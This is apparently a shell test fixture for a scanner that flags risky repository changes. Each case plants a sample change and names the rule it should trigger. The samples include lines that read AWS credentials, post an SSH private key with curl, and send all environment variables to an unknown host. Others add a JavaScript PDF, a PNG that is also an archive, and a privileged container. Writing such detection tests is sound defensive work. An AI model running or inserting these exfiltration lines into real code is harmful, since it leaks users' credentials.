# shellcheck shell=sh
# hostile_rules.sh: a row for rules that the others do not ask for; as
# hostile.sh.

hostile rule-credentials 'credential-access=ask@scripts/a[.]sh exfiltration=block@scripts/b[.]sh env-sent=ask@src/c[.]py new-host=note@src/c[.]py' 'credentials that are read and sent, and a host that nobody knows' <<'EOF'
echo 'cat ~/.aws/credentials' >scripts/a.sh
echo 'curl -d @$HOME/.ssh/id_rsa "$U"' >scripts/b.sh
printf 'requests.post("https://collect.vendor-cdn.io/x", json=dict(os.environ))\n' >src/c.py
EOF
hostile rule-load 'native-load=note@src/x[.]c privileged=ask@compose[.]yml' 'a library that is loaded at run time, and a container with all rights' <<'EOF'
printf 'void *h(void) { return dlopen("./x.so", 1); }\n' >src/x.c
printf 'services:\n  a:\n    privileged: true\n' >compose.yml
EOF
hostile rule-ci 'ci-runner=note@[.]github/workflows/r[.]yml ci-publish=note@[.]github/workflows/r[.]yml' 'CI that publishes, on a machine of the project' <<'EOF'
printf 'on: push\njobs:\n  r:\n    runs-on: self-hosted\n    steps:\n      - run: npm publish\n' >.github/workflows/r.yml
EOF
hostile rule-document 'active-document=ask@docs/a[.]pdf polyglot=block@docs/b[.]png' 'a document that acts and a picture that is an archive' <<'EOF'
printf '%%PDF-1\0/JavaScript (x) %%%%EOF\n' >docs/a.pdf
{ cat data/logo.png; printf 'PK\5\6\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0'; } >docs/b.png
EOF
hostile rule-name 'odd-name=ask@docs/' 'a name that is written in an unusual way' <<'EOF'
echo x | entry 100644 "$(bytes 'docs/e\0314\0201.md')"
entry_commit
EOF
hostile rule-packages 'dependency-new=note@package[.]json script-changed=note@package[.]json build-backend=ask@pyproject[.]toml' 'a new dependency, another command and another way to build' <<'EOF'
sed -i 's/"test": "jest"/"test": "jest --ci"/; s/"chalk": "5.3.0"/&, "leven": "4.0.0"/' package.json
printf '\n[build-system]\nrequires = ["mine"]\nbuild-backend = "mine"\nbackend-path = ["."]\n' >>pyproject.toml
EOF
hostile rule-tests 'test-removed=ask@tests/test_calc[.]py' 'a case of a file of tests that goes' <<'EOF'
sed -i '/^def test_scope/,$d' tests/test_calc.py
EOF
